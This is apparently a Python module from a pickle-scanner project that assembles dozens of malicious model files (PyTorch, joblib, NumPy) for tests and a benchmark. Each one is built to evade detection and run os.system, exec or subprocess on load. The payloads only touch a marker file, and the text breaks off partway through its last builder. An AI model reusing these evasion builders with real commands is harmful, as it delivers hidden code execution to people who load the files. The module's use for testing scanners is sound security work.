"""A catalogue of malicious model files for the demo, the tests and the benchmark.

Every file is assembled here from raw pickle opcodes (never by pickling a live object), and
every payload is harmless: loaded, it would only create the marker file it is given (with
`touch MARKER` or `open(MARKER, 'w')`). Nothing in this module loads, imports or runs a
payload; it only writes bytes.

`TECHNIQUES` maps a technique's name to a builder: `builder(marker) -> (file name, bytes)`.
The file name is a suggestion and may lie about the format on purpose.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import shlex
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from pickle import (
    APPENDS,
    BINBYTES,
    BINGET,
    BININT,
    BININT1,
    BINPERSID,
    BINPUT,
    BINUNICODE,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EXT1,
    EXT2,
    EXT4,
    FLOAT,
    FRAME,
    GET,
    GLOBAL,
    INST,
    INT,
    LONG,
    LONG1,
    LONG_BINGET,
    LONG_BINPUT,
    MARK,
    MEMOIZE,
    NEWFALSE,
    NEWOBJ,
    NEWOBJ_EX,
    NEWTRUE,
    NONE,
    OBJ,
    POP,
    PROTO,
    PUT,
    REDUCE,
    SETITEM,
    SETITEMS,
    SHORT_BINUNICODE,
    STACK_GLOBAL,
    STOP,
    STRING,
    TUPLE,
    TUPLE1,
    UNICODE,
)

Builder = Callable[[Path], tuple[str, bytes]]
TECHNIQUES: dict[str, Builder] = {}

# Extension codes the EXT techniques use. A process that registered one of them with
# `copyreg.add_extension(*EXTENSION_TARGET, code)` would resolve it to os.system.
EXTENSION_CODES = {"ext1_os_system": 0xE1, "ext2_os_system": 0xE1E2, "ext4_os_system": 0xE1E2E4}
EXTENSION_TARGET = ("os", "system")
UNREGISTERED_EXTENSION = 0x0BAD


# -- Assembling opcodes ---------------------------------------------------------------------


def literal(value: object) -> bytes:
    """Opcodes that push `value`: None, bool, int, str, bytes, or a tuple, list or dict of
    those."""
    if value is None:
        return NONE
    if isinstance(value, bool):
        return NEWTRUE if value else NEWFALSE
    if isinstance(value, int):
        return _integer(value)
    if isinstance(value, str):
        encoded = value.encode()
        return BINUNICODE + struct.pack("<I", len(encoded)) + encoded
    if isinstance(value, bytes):
        return BINBYTES + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return tuple_of(*map(literal, value))
    if isinstance(value, list):
        return EMPTY_LIST + (MARK + b"".join(map(literal, value)) + APPENDS if value else b"")
    if isinstance(value, dict):
        pairs = b"".join(literal(k) + literal(v) for k, v in value.items())
        return EMPTY_DICT + (MARK + pairs + SETITEMS if value else b"")
    raise TypeError(f"no opcodes for a {type(value).__name__}")


def _integer(value: int) -> bytes:
    if 0 <= value < 256:
        return BININT1 + bytes([value])
    if -(2**31) <= value < 2**31:
        return BININT + struct.pack("<i", value)
    encoded = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return LONG1 + bytes([len(encoded)]) + encoded


def short_string(text: str) -> bytes:
    """SHORT_BINUNICODE followed by MEMOIZE, the way protocol 4 writes names."""
    encoded = text.encode("utf-8")
    return SHORT_BINUNICODE + bytes([len(encoded)]) + encoded + MEMOIZE


def global_ref(module: str, name: str) -> bytes:
    """GLOBAL: the loader imports `module` and looks `name` up in it."""
    return GLOBAL + f"{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL with module and name pushed as literal strings (protocol 4)."""
    return short_string(module) + short_string(name) + STACK_GLOBAL


def tuple_of(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    """REDUCE: call what `func` pushes with what each of `args` pushes."""
    return func + tuple_of(*args) + REDUCE


def ext(code: int) -> bytes:
    """The shortest EXT opcode that carries `code`."""
    if code < 0x100:
        return EXT1 + bytes([code])
    if code < 0x10000:
        return EXT2 + struct.pack("<H", code)
    return EXT4 + struct.pack("<i", code)


def framed(body: bytes) -> bytes:
    return FRAME + struct.pack("<Q", len(body)) + body


def pickle_of(body: bytes, protocol: int = 2) -> bytes:
    """A whole pickle: PROTO (protocols 2 and up write one), the body, STOP."""
    header = PROTO + bytes([protocol]) if protocol >= 2 else b""
    return header + body + STOP


_Body = Callable[[Path], bytes]


def _technique(name: str, filename: str = "model.pkl") -> Callable[[_Body], _Body]:
    """Register a builder of file bytes under `name`, suggesting `filename`."""

    def register(build: _Body) -> _Body:
        TECHNIQUES[name] = lambda marker: (filename, build(marker))
        return build

    return register


# -- Harmless payloads: each only creates the marker file ------------------------------------


def _shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _os_system(marker: Path) -> bytes:
    """Opcodes that call os.system(touch MARKER); the pickle most techniques wrap."""
    return call(global_ref("os", "system"), literal(_shell(marker)))


def os_system_pickle(marker: Path) -> bytes:
    return pickle_of(_os_system(marker))


def _benign_pickle() -> bytes:
    return pickle_of(literal({"epoch": 3, "lr": 1000, "note": "checkpoint"}))


# -- Direct calls: a gadget called by REDUCE with literal arguments --------------------------
# Commands, Python source, file writes and package tools, each named plainly.

_DIRECT_CALLS: dict[str, tuple[str, str, Callable[[Path], tuple[object, ...]]]] = {
    "posix_system": ("posix", "system", lambda m: (_shell(m),)),
    "nt_system": ("nt", "system", lambda m: (_shell(m),)),
    "os_popen": ("os", "popen", lambda m: (_shell(m),)),
    "subprocess_popen": ("subprocess", "Popen", lambda m: (["touch", str(m)],)),
    "subprocess_run": ("subprocess", "run", lambda m: (["touch", str(m)],)),
    "subprocess_call": ("subprocess", "call", lambda m: (["touch", str(m)],)),
    "subprocess_check_output": ("subprocess", "check_output", lambda m: (["touch", str(m)],)),
    "subprocess_getoutput": ("subprocess", "getoutput", lambda m: (_shell(m),)),
    "builtins_exec": ("builtins", "exec", lambda m: (_python(m),)),
    "builtins_eval": ("builtins", "eval", lambda m: (_python(m),)),
    "builtins_open": ("builtins", "open", lambda m: (str(m), "w")),
    "io_open": ("io", "open", lambda m: (str(m), "w")),
    "codecs_open": ("codecs", "open", lambda m: (str(m), "w")),
    "shutil_copyfile": ("shutil", "copyfile", lambda m: ("/dev/null", str(m))),
    "runpy_run_code": ("runpy", "_run_code", lambda m: (_python(m), {})),
    "cprofile_run": ("cProfile", "run", lambda m: (_python(m),)),
    "pip_main": ("pip", "main", lambda m: (["--log", str(m), "list"],)),
    "pip_internal_main": ("pip._internal.cli.main", "main", lambda m: (["--log", str(m), "list"],)),
}


def _direct_call(module: str, name: str, args: Callable[[Path], tuple[object, ...]]) -> _Body:
    return lambda marker: pickle_of(call(global_ref(module, name), *map(literal, args(marker))))


for _name, (_module, _attr, _args) in _DIRECT_CALLS.items():
    _technique(_name)(_direct_call(_module, _attr, _args))


# -- Chained calls: the gadget is fetched or built at load time -----------------------------
# Dynamic import and name resolution, attribute access, callable wrappers and bytecode.


@_technique("builtins_compile")
def _builtins_compile(marker: Path) -> bytes:
    code = call(global_ref("builtins", "compile"), *map(literal, (_python(marker), "<m>", "exec")))
    return pickle_of(call(global_ref("builtins", "exec"), code))


@_technique("builtins_import")
def _builtins_import(marker: Path) -> bytes:
    os_module = call(global_ref("builtins", "__import__"), literal("os"))
    system = call(global_ref("builtins", "getattr"), os_module, literal("system"))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("builtins_getattr")
def _builtins_getattr(marker: Path) -> bytes:
    # torch.serialization imports os, so plain attribute lookup reaches the os module.
    system = call(global_ref("builtins", "getattr"), global_ref("torch.serialization", "os"),
                  literal("system"))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("importlib_import_module")
def _importlib_import_module(marker: Path) -> bytes:
    os_module = call(global_ref("importlib", "import_module"), literal("os"))
    system = call(global_ref("builtins", "getattr"), os_module, literal("system"))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("pkgutil_resolve_name")
def _pkgutil_resolve_name(marker: Path) -> bytes:
    system = call(global_ref("pkgutil", "resolve_name"), literal("os:system"))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("pydoc_locate")
def _pydoc_locate(marker: Path) -> bytes:
    system = call(global_ref("pydoc", "locate"), literal("os.system"))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("operator_attrgetter")
def _operator_attrgetter(marker: Path) -> bytes:
    # Only allowlisted uuid.UUID is imported by name; os is reached through its globals.
    def getter(kind: str, key: str) -> bytes:
        return call(global_ref("operator", kind), literal(key))

    module_globals = call(getter("attrgetter", "__init__.__globals__"), global_ref("uuid", "UUID"))
    os_module = call(getter("itemgetter", "os"), module_globals)
    system = call(getter("attrgetter", "system"), os_module)
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("operator_itemgetter")
def _operator_itemgetter(marker: Path) -> bytes:
    # A module's __builtins__ is the builtins dict; itemgetter picks exec out of it.
    getter = call(global_ref("operator", "itemgetter"), literal("exec"))
    exec_ = call(getter, global_ref("uuid", "__builtins__"))
    return pickle_of(call(exec_, literal(_python(marker))))


@_technique("operator_methodcaller")
def _operator_methodcaller(marker: Path) -> bytes:
    method = global_ref("operator", "methodcaller")
    caller = call(method, literal("system"), literal(_shell(marker)))
    return pickle_of(call(caller, global_ref("uuid", "os")))


@_technique("functools_partial")
def _functools_partial(marker: Path) -> bytes:
    bound = call(global_ref("functools", "partial"), global_ref("os", "system"),
                 literal(_shell(marker)))
    return pickle_of(call(bound))


def _function_from_code(code: bytes) -> bytes:
    """types.FunctionType(code, {})(): a function made from a code object, then called."""
    return call(call(global_ref("types", "FunctionType"), code, EMPTY_DICT))


@_technique("marshal_loads_function")
def _marshal_loads_function(marker: Path) -> bytes:
    bytecode = marshal.dumps(compile(_python(marker), "<m>", "exec"))
    return pickle_of(_function_from_code(call(global_ref("marshal", "loads"), literal(bytecode))))


# CodeType's constructor arguments in order; co_qualname and co_exceptiontable are 3.11+.
_CODE_FIELDS = (
    "co_argcount co_posonlyargcount co_kwonlyargcount co_nlocals co_stacksize co_flags co_code "
    "co_consts co_names co_varnames co_filename co_name co_qualname co_firstlineno co_linetable "
    "co_exceptiontable co_freevars co_cellvars"
).split()


@_technique("types_codetype")
def _types_codetype(marker: Path) -> bytes:
    compiled = compile(_python(marker), "<m>", "exec")
    fields = [getattr(compiled, f) for f in _CODE_FIELDS if hasattr(compiled, f)]
    code = call(global_ref("types", "CodeType"), *map(literal, fields))
    return pickle_of(_function_from_code(code))


# -- Nested loaders: the payload is a pickle inside bytes -----------------------------------


@_technique("nested_pickle_loads")
def _nested_pickle_loads(marker: Path) -> bytes:
    return pickle_of(call(global_ref("pickle", "loads"), literal(os_system_pickle(marker))))


@_technique("nested_c_pickle_loads")
def _nested_c_pickle_loads(marker: Path) -> bytes:
    return pickle_of(call(global_ref("_pickle", "loads"), literal(os_system_pickle(marker))))


@_technique("nested_torch_load_bytesio")
def _nested_torch_load_bytesio(marker: Path) -> bytes:
    buffer = call(global_ref("io", "BytesIO"), literal(os_system_pickle(marker)))
    return pickle_of(call(global_ref("torch", "load"), buffer))


@_technique("nested_torch_load_from_bytes_latin1")
def _nested_load_from_bytes_latin1(marker: Path) -> bytes:
    # Exactly how protocol 2 pickles a tensor's storage: bytes as _codecs.encode(text).
    text = os_system_pickle(marker).decode("latin-1")
    data = call(global_ref("_codecs", "encode"), literal(text), literal("latin1"))
    return pickle_of(call(global_ref("torch.storage", "_load_from_bytes"), data))


@_technique("nested_torch_load_from_computed_bytes")
def _nested_load_from_computed_bytes(marker: Path) -> bytes:
    # raw_unicode_escape encodes these characters as latin-1 does, but the scanner applies
    # no codec a file names, so the bytes only exist at load time.
    text = literal(os_system_pickle(marker).decode("latin-1"))
    data = call(global_ref("codecs", "encode"), text, literal("raw_unicode_escape"))
    return pickle_of(call(global_ref("torch.storage", "_load_from_bytes"), data))


@_technique("nested_pickle_loads_twice")
def _nested_pickle_loads_twice(marker: Path) -> bytes:
    return pickle_of(call(global_ref("pickle", "loads"), literal(_nested_pickle_loads(marker))))


# -- Protocols 0 to 5: os.system written the way each protocol writes a call ----------------


@_technique("os_system_protocol_0")
def _protocol_0(marker: Path) -> bytes:
    command = _shell(marker).encode("raw_unicode_escape")
    return global_ref("os", "system") + MARK + UNICODE + command + b"\n" + TUPLE + REDUCE + STOP


@_technique("os_system_protocol_1")
def _protocol_1(marker: Path) -> bytes:
    return pickle_of(_os_system(marker), protocol=1)


@_technique("os_system_protocol_2")
def _protocol_2(marker: Path) -> bytes:
    return pickle_of(_os_system(marker), protocol=2)


@_technique("os_system_protocol_3")
def _protocol_3(marker: Path) -> bytes:
    command = literal(_shell(marker).encode())  # os.system takes bytes too
    return pickle_of(call(global_ref("os", "system"), command), protocol=3)


def _framed_os_system(marker: Path, protocol: int) -> bytes:
    body = stack_global("os", "system") + short_string(_shell(marker)) + TUPLE1 + REDUCE
    return PROTO + bytes([protocol]) + framed(body + STOP)


@_technique("os_system_protocol_4")
def _protocol_4(marker: Path) -> bytes:
    return _framed_os_system(marker, 4)


@_technique("os_system_protocol_5")
def _protocol_5(marker: Path) -> bytes:
    return _framed_os_system(marker, 5)


# -- Memo games: STACK_GLOBAL's module and name come from the memo --------------------------


def _memo_stack_global(marker: Path, put: Callable[[int], bytes], get: Callable[[int], bytes],
                       decoy: bytes = b"") -> bytes:
    """Store 'os' and 'system' in the memo, push unrelated data, then fetch both back."""
    store = decoy + literal("os") + put(0) + POP + literal("system") + put(1) + POP
    filler = literal({"weights": [1, 2, 3]}) + POP
    body = store + filler + get(0) + get(1) + STACK_GLOBAL + literal((_shell(marker),)) + REDUCE
    return pickle_of(body, protocol=4)


def _binput(key: int) -> bytes:
    return BINPUT + bytes([key])


def _binget(key: int) -> bytes:
    return BINGET + bytes([key])


@_technique("memo_binput_binget")
def _memo_binput_binget(marker: Path) -> bytes:
    return _memo_stack_global(marker, _binput, _binget)


@_technique("memo_memoize_binget")
def _memo_memoize_binget(marker: Path) -> bytes:
    return _memo_stack_global(marker, lambda key: MEMOIZE, _binget)


@_technique("memo_long_binput_long_binget")
def _memo_long_binput(marker: Path) -> bytes:
    return _memo_stack_global(
        marker,
        lambda key: LONG_BINPUT + struct.pack("<I", 70_000 + key),
        lambda key: LONG_BINGET + struct.pack("<I", 70_000 + key),
    )


@_technique("memo_text_put_get")
def _memo_text_put_get(marker: Path) -> bytes:
    return _memo_stack_global(
        marker, lambda key: PUT + b"%d\n" % key, lambda key: GET + b"%d\n" % key
    )


@_technique("memo_overwritten_slot")
def _memo_overwritten_slot(marker: Path) -> bytes:
    # Slot 0 first holds 'builtins', then is overwritten with 'os' before it is read.
    decoy = literal("builtins") + _binput(0) + POP
    return _memo_stack_global(marker, _binput, _binget, decoy=decoy)


# -- Other ways to call: INST, OBJ, NEWOBJ, NEWOBJ_EX ----------------------------------------


@_technique("inst_os_system")
def _inst(marker: Path) -> bytes:
    return MARK + literal(_shell(marker)) + INST + b"os\nsystem\n" + STOP


@_technique("obj_os_system")
def _obj(marker: Path) -> bytes:
    return pickle_of(MARK + global_ref("os", "system") + literal(_shell(marker)) + OBJ)


def _partial_args(marker: Path) -> bytes:
    return tuple_of(global_ref("os", "system"), literal(_shell(marker)))


@_technique("newobj_partial")
def _newobj(marker: Path) -> bytes:
    # partial.__new__ binds os.system; REDUCE with no arguments then calls it.
    bound = global_ref("functools", "partial") + _partial_args(marker) + NEWOBJ
    return pickle_of(call(bound))


@_technique("newobj_ex_partial")
def _newobj_ex(marker: Path) -> bytes:
    bound = global_ref("functools", "partial") + _partial_args(marker) + EMPTY_DICT + NEWOBJ_EX
    return pickle_of(call(bound), protocol=4)


# -- Extension registry: EXT1/EXT2/EXT4 name a global by a copyreg code ---------------------


def _ext_call(code: int) -> _Body:
    return lambda marker: pickle_of(call(ext(code), literal(_shell(marker))))


for _name, _code in EXTENSION_CODES.items():
    _technique(_name)(_ext_call(_code))
_technique("ext_unregistered")(_ext_call(UNREGISTERED_EXTENSION))


# -- Dotted names: protocol 4 resolves 'a.b.c' attribute paths from the module ---------------


@_technique("dotted_torch_utils_os_system")
def _dotted_torch_utils(marker: Path) -> bytes:
    body = stack_global("torch._utils", "os.system") + literal((_shell(marker),)) + REDUCE
    return pickle_of(body, protocol=4)


@_technique("dotted_torch_serialization_global")
def _dotted_torch_global(marker: Path) -> bytes:
    body = call(global_ref("torch", "serialization.os.system"), literal(_shell(marker)))
    return pickle_of(body, protocol=4)


@_technique("dotted_uuid_os_system")
def _dotted_uuid(marker: Path) -> bytes:
    body = stack_global("uuid", "os.system") + literal((_shell(marker),)) + REDUCE
    return pickle_of(body, protocol=4)


@_technique("dotted_dunder_globals_chain")
def _dotted_dunder_globals(marker: Path) -> bytes:
    # Only allowlisted names at the root: uuid's globals hold os; dict and object methods
    # index them and read the attribute.
    module_globals = stack_global("uuid", "UUID.__init__.__globals__")
    os_module = call(stack_global("builtins", "dict.__getitem__"), module_globals, literal("os"))
    system = call(stack_global("builtins", "object.__getattribute__"), os_module,
                  literal("system"))
    return pickle_of(call(system, literal(_shell(marker))), protocol=4)


@_technique("dotted_pathlib_path_touch")
def _dotted_pathlib(marker: Path) -> bytes:
    path = call(stack_global("pathlib", "Path"), literal(str(marker)))
    return pickle_of(call(stack_global("pathlib", "Path.touch"), path), protocol=4)


# -- Trusted packages: a class from an ML package whose constructor has side effects -------


@_technique("trusted_package_side_effect", "model.pt")
def _trusted_package_side_effect(marker: Path) -> bytes:
    # Classes of trusted packages are low, but this constructor creates log_dir on disk.
    writer = global_ref("torch.utils.tensorboard", "SummaryWriter")
    return pickle_of(call(writer, literal(str(marker))))


@_technique("torch_fx_graph_module_source", "model.pt")
def _torch_fx_graph_module(marker: Path) -> bytes:
    # How torch pickles an fx GraphModule: the loader executes the import block as source.
    body = {"_code": "def forward(self):\n    return None\n"}
    source = f"{_python(marker)}\n"
    rebuild = global_ref("torch.fx.graph_module", "reduce_graph_module")
    return pickle_of(call(rebuild, literal(body), literal(source)))


# -- Python 2 names: protocols below 3 map __builtin__, copy_reg and cPickle ----------------


@_technique("py2_builtin_eval")
def _py2_builtin_eval(marker: Path) -> bytes:
    return pickle_of(call(global_ref("__builtin__", "eval"), literal(_python(marker))))


@_technique("py2_copy_reg_reconstructor")
def _py2_copy_reg(marker: Path) -> bytes:
    # _reconstructor(cls, base, state) runs base.__init__(obj, state): Popen(argv).
    popen = global_ref("subprocess", "Popen")
    argv = literal(["touch", str(marker)])
    return pickle_of(call(global_ref("copy_reg", "_reconstructor"), popen, popen, argv))


@_technique("py2_cpickle_loads")
def _py2_cpickle_loads(marker: Path) -> bytes:
    return pickle_of(call(global_ref("cPickle", "loads"), literal(os_system_pickle(marker))))


# -- Broken and multiple streams: what a loader runs before an error, or after a STOP -------


@_technique("payload_then_invalid_opcode")
def _payload_then_invalid_opcode(marker: Path) -> bytes:
    return PROTO + b"\x02" + _os_system(marker) + b"\xff"


@_technique("payload_then_truncated_string")
def _payload_then_truncated(marker: Path) -> bytes:
    return PROTO + b"\x02" + _os_system(marker) + BINUNICODE + struct.pack("<I", 4096) + b"abc"


@_technique("payload_in_second_pickle")
def _payload_in_second_pickle(marker: Path) -> bytes:
    return _benign_pickle() + os_system_pickle(marker)


@_technique("polyglot_pickle_then_zip", "model.pt")
def _polyglot(marker: Path) -> bytes:
    # torch.load sees no zip magic at offset 0 and unpickles; zip tools read the tail.
    return os_system_pickle(marker) + _torch_zip(_state_dict_pickle())


# -- PyTorch zip checkpoints ------------------------------------------------------------------


def _state_dict_pickle() -> bytes:
    """A benign state dict {'weight': tensor of 2 floats in storage '0'}, as torch writes it."""
    key = tuple_of(literal("storage"), global_ref("torch", "FloatStorage"),
                   literal("0"), literal("cpu"), literal(2))
    tensor = call(
        global_ref("torch._utils", "_rebuild_tensor_v2"),
        key + BINPERSID,
        *map(literal, (0, (2,), (1,), False)),
        call(global_ref("collections", "OrderedDict")),
    )
    return pickle_of(EMPTY_DICT + literal("weight") + tensor + SETITEM)


def _torch_zip(data_pkl: bytes, top: str = "archive", extra: dict[str, bytes] | None = None,
               compression: int = zipfile.ZIP_STORED, pickle_name: str = "data.pkl") -> bytes:
    members = {
        f"{top}/{pickle_name}": data_pkl,
        f"{top}/.format_version": b"1",
        f"{top}/.storage_alignment": b"64",
        f"{top}/byteorder": b"little",
        f"{top}/data/0": struct.pack("<2f", 1.0, 1.0),
        f"{top}/version": b"3\n",
        f"{top}/.data/serialization_id": b"1234567890" * 4,
        **(extra or {}),
    }
    return _zip(members, compression)


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip with fixed timestamps, so every build of a technique gives the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, data, compress_type=compression)
    return buffer.getvalue()


def _patch_headers(archive: bytes, name: str, *, local_name: str | None = None,
                   crc: int | None = None) -> bytes:
    """Rewrite one member's local header name and/or both headers' CRC in place."""
    info = zipfile.ZipFile(io.BytesIO(archive)).getinfo(name)
    patched = bytearray(archive)
    local = info.header_offset
    if local_name is not None:
        encoded = local_name.encode()
        if len(encoded) != len(name.encode()):
            raise ValueError("the local name must keep the length of the central name")
        patched[local + 30 : local + 30 + len(encoded)] = encoded
    if crc is not None:
        packed = struct.pack("<I", crc)
        patched[local + 14 : local + 18] = packed
        central = patched.find(b"PK\x01\x02" + archive[local + 4 : local + 6])
        while patched[central + 46 : central + 46 + len(name)] != name.encode():
            central = patched.find(b"PK\x01\x02", central + 4)
        patched[central + 16 : central + 20] = packed
    return bytes(patched)


@_technique("torch_zip_data_pkl", "model.pt")
def _torch_zip_data_pkl(marker: Path) -> bytes:
    return _torch_zip(os_system_pickle(marker))


@_technique("torch_zip_custom_top_folder", "model.pt")
def _torch_zip_custom_top(marker: Path) -> bytes:
    return _torch_zip(os_system_pickle(marker), top="resnet50-finetuned")


@_technique("torch_zip_deflated", "model.pt")
def _torch_zip_deflated(marker: Path) -> bytes:
    return _torch_zip(os_system_pickle(marker), compression=zipfile.ZIP_DEFLATED)


@_technique("torch_zip_hidden_unreferenced_member", "model.pt")
def _torch_zip_hidden(marker: Path) -> bytes:
    return _torch_zip(_state_dict_pickle(), extra={"archive/data/7": os_system_pickle(marker)})


@_technique("torch_zip_local_name_mismatch", "model.pt")
def _torch_zip_name_mismatch(marker: Path) -> bytes:
    # The central directory (what torch reads) says data.pkl; the local header says data/000.
    archive = _torch_zip(os_system_pickle(marker))
    return _patch_headers(archive, "archive/data.pkl", local_name="archive/data/000")


@_technique("torch_zip_bad_crc", "model.pt")
def _torch_zip_bad_crc(marker: Path) -> bytes:
    archive = _torch_zip(os_system_pickle(marker))
    return _patch_headers(archive, "archive/data.pkl", crc=0xDEADBEEF)


# -- Legacy PyTorch: five pickles in a row, or a tar of pickles ------------------------------

_TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
_SYS_INFO = {"protocol_version": 1001, "little_endian": True,
             "type_sizes": {"short": 2, "int": 4, "long": 4}}


def _legacy_checkpoint(object_pickle: bytes, keys_pickle: bytes) -> bytes:
    """magic, protocol version, system info, the object, the storage keys; raw storage."""
    header = b"".join(pickle_of(literal(v)) for v in (_TORCH_LEGACY_MAGIC, 1001, _SYS_INFO))
    storage = struct.pack("<q2f", 2, 1.0, 1.0)
    return header + object_pickle + keys_pickle + storage


@_technique("torch_legacy_payload_in_object", "model.pth")
def _torch_legacy_object(marker: Path) -> bytes:
    return _legacy_checkpoint(os_system_pickle(marker), pickle_of(literal(["0"])))


@_technique("torch_legacy_payload_in_storage_keys", "model.pth")
def _torch_legacy_keys(marker: Path) -> bytes:
    return _legacy_checkpoint(_state_dict_pickle(), os_system_pickle(marker))


@_technique("torch_legacy_tar", "model.tar")
def _torch_legacy_tar(marker: Path) -> bytes:
    members = {
        "storages": pickle_of(literal(0)),
        "tensors": pickle_of(literal(0)),
        "pickle": os_system_pickle(marker),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


# -- joblib: numpy buffers inline between opcodes, whole file optionally compressed ----------


def _joblib_pickle(marker: Path) -> bytes:
    """A joblib file: an array wrapper, its raw float32 buffer, then the payload, which
    runs after joblib has read the buffer back out of the stream."""
    dtype = call(stack_global("numpy", "dtype"), *map(literal, ("f4", False, True)))
    dtype += literal((3, "<", None, None, None, -1, -1, 0)) + BUILD
    state = (
        EMPTY_DICT + MARK
        + literal("subclass") + stack_global("numpy", "ndarray")
        + literal("shape") + literal((3,))
        + literal("order") + literal("C")
        + literal("dtype") + dtype
        + SETITEMS
    )
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + tuple_of() + NEWOBJ
    array = struct.pack("<3f", 1.0, 2.0, 3.0)
    payload = POP + _os_system(marker)
    return PROTO + b"\x04" + wrapper + state + BUILD + array + payload + STOP


@_technique("joblib_payload_after_array", "model.joblib")
def _joblib_after_array(marker: Path) -> bytes:
    return _joblib_pickle(marker)


_JOBLIB_COMPRESSORS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": lambda data: zlib.compress(data, 3),
    "gzip": lambda data: gzip.compress(data, 3, mtime=0),
    "bz2": lambda data: bz2.compress(data, 3),
    "xz": lambda data: lzma.compress(data, lzma.FORMAT_XZ),
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
}


def _joblib_compressed(compress: Callable[[bytes], bytes]) -> _Body:
    return lambda marker: compress(_joblib_pickle(marker))


for _name, _compress in _JOBLIB_COMPRESSORS.items():
    _technique(f"joblib_{_name}", f"model.joblib.{_name}")(_joblib_compressed(_compress))


# -- NumPy: an object-dtype .npy body is a pickle; .npz is a zip of .npy files ---------------


def _npy_object_array(marker: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padding = -(10 + len(header) + 1) % 64
    header_bytes = (header + " " * padding + "\n").encode("latin-1")
    prefix = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header_bytes))
    return prefix + header_bytes + os_system_pickle(marker)


@_technique("numpy_npy_object_dtype", "features.npy")
def _numpy_npy(marker: Path) -> bytes:
    return _npy_object_array(marker)


@_technique("numpy_npz_object_member", "features.npz")
def _numpy_npz(marker: Path) -> bytes:
    return _zip({"arr_0.npy": _npy_object_array(marker)})


# -- Extension mismatch: a pickle under a name that promises a safe format -------------------

for _filename in ("model.safetensors", "model.onnx", "weights.h5"):
    _technique(f"extension_mismatch_{_filename.replace('.', '_')}", _filename)(os_system_pickle)


# -- Loader parsing: text arguments pickle.load accepts and pickletools refuses --------------
# A scanner built on pickletools stops at such an opcode; the loader reads on and runs the rest.


@_technique("int_hex_before_payload")
def _int_hex(marker: Path) -> bytes:
    return pickle_of(INT + b"0x10\n" + POP + _os_system(marker))  # strtol/int(text, 0)


@_technique("long_hex_before_payload")
def _long_hex(marker: Path) -> bytes:
    return pickle_of(LONG + b"0x10L\n" + POP + _os_system(marker))


@_technique("float_nul_terminated")
def _float_nul(marker: Path) -> bytes:
    return pickle_of(FLOAT + b"1.5\x00junk\n" + POP + _os_system(marker))  # C stops at NUL


@_technique("put_key_nul_terminated")
def _memo_key_nul(marker: Path) -> bytes:
    return pickle_of(NONE + PUT + b"0\x00junk\n" + POP + _os_system(marker))


@_technique("string_utf8_torch_zip", "model.pt")
def _string_utf8(marker: Path) -> bytes:
    # torch.load decodes STRING arguments as UTF-8; pickletools accepts ASCII only.
    return _torch_zip(pickle_of(STRING + "'\u00e9'\n".encode() + POP + _os_system(marker)))


# -- Trusted packages: functions and classes that run code named by the file -----------------


@_technique("pandas_expr_eval")
def _pandas_expr_eval(marker: Path) -> bytes:
    # Expr parses and evaluates at construction; level -1 resolves names in pandas' own
    # module, whose `com` reaches builtins.
    source = f"com.builtins.__import__('os').system({_shell(marker)!r})"
    expr = global_ref("pandas.core.computation.expr", "Expr")
    return pickle_of(call(expr, *map(literal, (source, "python", "python", None, -1))))


@_technique("scipy_uarray_unpickle_function")
def _scipy_unpickle_function(marker: Path) -> bytes:
    # import_module(mod) + getattr(qname): os.system from two strings.
    resolve = global_ref("scipy._lib._uarray._backend", "unpickle_function")
    system = call(resolve, *map(literal, ("os", "system", None)))
    return pickle_of(call(system, literal(_shell(marker))))


@_technique("joblib_unpickle_nested")
def _joblib_unpickle_nested(marker: Path) -> bytes:
    payload = call(global_ref("io", "BytesIO"), literal(os_system_pickle(marker)))
    return pickle_of(call(global_ref("joblib.numpy_pickle", "_unpickle"), payload, NEWFALSE))


@_technique("loky_cloudpickle_wrapper_nested")
def _loky_wrapper_nested(marker: Path) -> bytes:
    rebuild = global_ref("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper")
    return pickle_of(call(rebuild, literal(os_system_pickle(marker)), NEWFALSE))


@_technique("torch_sympy_sympify")
def _torch_sympy(marker: Path) -> bytes:
    # sympy Function subclasses sympify their arguments: a string is eval'd.
    source = f"__import__('os').system({_shell(marker)!r})"
    floor_div = global_ref("torch.utils._sympy.functions", "FloorDiv")
    return pickle_of(call(floor_div, literal(source), literal(1)))


@_technique("numpy_npzfile_allow_pickle")
def _numpy_npzfile(marker: Path) -> bytes:
    # dict() reads every member of an NpzFile opened with allow_pickle=True; the archive's
    # bytes are computed (bytes of a list of ints), so no zip shows in the file.
    archive = call(global_ref("builtins", "bytes"), literal(list(_zip({"a.npy":
                                                                       _npy_object_array(marker)}))))
    npz = call(global_ref("numpy.lib.npyio", "NpzFile"), call(global_ref("io", "BytesIO"), archive),
               NEWFALSE, NEWTRUE)
